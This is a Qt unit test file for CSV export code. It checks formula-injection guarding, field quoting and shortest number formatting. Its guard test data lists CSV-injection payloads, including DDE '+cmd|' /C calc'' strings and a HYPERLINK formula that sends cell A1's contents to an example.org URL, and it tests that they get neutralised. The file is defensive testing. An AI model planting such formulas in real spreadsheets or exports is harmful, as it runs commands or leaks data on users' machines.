#include "core/csvtext.h"
#include "core/shortest.h"

#include <QTest>

#include <limits>

using namespace Qt::StringLiterals;
using namespace corridor;

class tst_CsvText : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void guards_data();
    void guards();
    void quotes_data();
    void quotes();
    void shortestReadsBack_data();
    void shortestReadsBack();
};

void tst_CsvText::guards_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("guarded");
    const auto row = [](const QString &text, const QString &guarded) {
        QTest::addRow("%s", text.toUtf8().toPercentEncoding().constData()) << text << guarded;
    };
    row(u""_s, u""_s);
    row(u"Qazaqstan"_s, u"Qazaqstan"_s);
    row(u"=1+1"_s, u"'=1+1"_s);
    row(u"=HYPERLINK(\"http://example.org?\"&A1)"_s, u"'=HYPERLINK(\"http://example.org?\"&A1)"_s);
    row(u"+cmd|' /C calc'!A0"_s, u"'+cmd|' /C calc'!A0"_s);
    row(u"-2+3+cmd|' /C calc'!A0"_s, u"'-2+3+cmd|' /C calc'!A0"_s);
    row(u"@SUM(A1:A9)"_s, u"'@SUM(A1:A9)"_s);
    row(u"\t=1"_s, u"'\t=1"_s);
    row(u"\r=1"_s, u"'\r=1"_s);
    row(u"\n=1"_s, u"'\n=1"_s);
    row(u"＝1+1"_s, u"'＝1+1"_s);
    row(u"-n/a"_s, u"'-n/a"_s);
    // What is a number stays one.
    row(u"-5"_s, u"-5"_s);
    row(u"+8.7 %"_s, u"+8.7 %"_s);
    row(u"-1 234,5"_s, u"-1 234,5"_s);
    row(u"-1\u00a0234,5"_s, u"-1\u00a0234,5"_s);
    row(u"-1.5e-07"_s, u"-1.5e-07"_s);
    row(u"-"_s, u"-"_s);
    row(u"-1+1"_s, u"'-1+1"_s);
    row(u"+1e5e5-A1"_s, u"'+1e5e5-A1"_s);
    // Taking one apostrophe away gives every text back.
    row(u"'=1"_s, u"''=1"_s);
    row(u"'tis"_s, u"'tis"_s);
    row(u"'"_s, u"'"_s);
}

void tst_CsvText::guards()
{
    QFETCH(QString, text);
    QFETCH(QString, guarded);
    QCOMPARE(guardedText(text), guarded);
}

void tst_CsvText::quotes_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<char>("delimiter");
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("plain") << u"Түркия"_s << ',' << "Түркия"_ba;
    QTest::newRow("comma") << u"a,b"_s << ',' << "\"a,b\""_ba;
    QTest::newRow("another delimiter") << u"a,b"_s << ';' << "a,b"_ba;
    QTest::newRow("semicolon") << u"a;b"_s << ';' << "\"a;b\""_ba;
    QTest::newRow("quotes") << u"a \"b\""_s << ',' << "\"a \"\"b\"\"\""_ba;
    QTest::newRow("line end") << u"a\nb"_s << ',' << "\"a\nb\""_ba;
}

void tst_CsvText::quotes()
{
    QFETCH(QString, text);
    QFETCH(char, delimiter);
    QFETCH(QByteArray, field);
    QCOMPARE(csvField(text, delimiter), field);
}

void tst_CsvText::shortestReadsBack_data()
{
    QTest::addColumn<double>("value");
    QTest::addColumn<QByteArray>("text");
    QTest::newRow("zero") << 0.0 << "0"_ba;
    QTest::newRow("a tenth") << 0.1 << "0.1"_ba;
    QTest::newRow("large") << 5413207100.25 << "5413207100.25"_ba;
    QTest::newRow("tiny") << 1e-7 << "1e-07"_ba;
    QTest::newRow("not a number") << std::numeric_limits<double>::quiet_NaN() << QByteArray();
}

void tst_CsvText::shortestReadsBack()
{
    QFETCH(double, value);
    QFETCH(QByteArray, text);
    QCOMPARE(QByteArray::fromStdString(shortestNumber(value)), text);
}

QTEST_GUILESS_MAIN(tst_CsvText)
#include "tst_csvtext.moc"
